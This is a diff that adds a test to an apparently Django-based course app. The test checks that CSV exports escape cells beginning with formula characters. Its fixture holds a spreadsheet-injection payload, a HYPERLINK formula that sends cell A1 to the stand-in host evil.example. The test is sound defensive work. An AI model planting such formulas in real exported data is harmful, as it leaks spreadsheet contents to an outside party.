@@ -635,3 +635,21 @@ def test_cells_agree_with_report_state_on_model_instances(
     finally:
         Report.objects.filter(student=camp.alice).delete()
         Allowance.objects.filter(student=camp.alice).delete()
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_look_like_formulas_are_text(client, camp, start):
+    camp.alice.display_name = start + HOSTILE_NAME.lstrip("=")
+    camp.alice.save()
+    camp.project_a.title = "@SUM(1+1)"
+    camp.project_a.save()
+    client.force_login(camp.ta)
+    rows = read_csv(client.get("/overview/camp.csv"))
+    alice = next(row for row in rows if row[0] == "alice")
+    assert alice[1] == "'" + camp.alice.display_name
+    assert alice[2] == "'@SUM(1+1)"
+    harmless = next(row for row in rows if row[0] == "carol")
+    assert harmless[1] == "Carol"
